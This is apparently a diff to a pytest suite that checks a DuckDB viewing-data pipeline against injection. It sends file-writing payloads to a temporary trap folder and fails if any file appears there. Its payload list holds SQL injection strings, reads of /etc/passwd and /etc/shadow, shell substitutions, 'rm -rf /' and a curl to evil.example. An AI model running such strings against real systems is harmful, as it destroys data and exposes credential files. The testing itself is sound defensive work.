@@ -6,6 +6,8 @@ from __future__ import annotations
 
 import datetime as dt
 import json
+import tempfile
+from pathlib import Path
 
 import duckdb
 import pytest
@@ -19,20 +21,22 @@ from rewatch.pipeline import night_of
 from rewatch.rawzone import partition_path
 from tests.helpers import HOUSEHOLDS, PROFILES, TITLES, event, write_night
 
+# Where the payloads that write files aim: a folder of this test process, empty after every test.
+TRAP = Path(tempfile.mkdtemp(prefix="rewatch-injection-trap-"))
 PAYLOADS = [
     "2026-03-02'; drop table fct_viewing_sessions; --",
     "2026-03-02' or '1'='1",
     "' or 1=1 --",
     '" or ""="',
     "1; select * from duckdb_settings()",
-    "2026-03-02); copy (select 1) to '/tmp/pwned.csv'; --",
-    "'); attach '/tmp/evil.duckdb' as evil; --",
+    f"2026-03-02); copy (select 1) to '{TRAP}/pwned.csv'; --",
+    f"'); attach '{TRAP}/evil.duckdb' as evil; --",
     "install httpfs; load httpfs;",
     "select * from read_csv('/etc/passwd')",
     "read_text('/etc/shadow')",
     "2026-03-02 union select * from pg_timezone_names()",
-    "$(touch /tmp/pwned)",
-    "`touch /tmp/pwned`",
+    f"$(touch {TRAP}/pwned)",
+    f"`touch {TRAP}/pwned`",
     "; rm -rf / ;",
     "| cat /etc/passwd",
     "&& curl http://evil.example/x",
@@ -78,6 +82,12 @@ PAYLOADS = [
     "' ; DROP SCHEMA main CASCADE ; --",
 ]
 assert len(PAYLOADS) >= 50
+
+
+@pytest.fixture(autouse=True)
+def nothing_written_where_payloads_aim():
+    yield
+    assert not list(TRAP.iterdir()), "a payload wrote a file: it was executed"
 
 
 @pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@@ -170,7 +180,6 @@ def test_payloads_inside_export_files_are_data_and_execute_nothing(workdir):
         con.close()
     assert [(e, d, t) for e, d, t in loaded] == [(f"{i}:{p}".strip(), p.strip(), p.strip()) for i, p in enumerate(safe)]
     assert set(safe) <= names
-    assert not any(p.exists() for p in (workdir.raw_dir.parent / "pwned.csv",))
 
     # forget with every payload: values are bound, never executed; the raw zone stays intact.
     for payload in PAYLOADS:
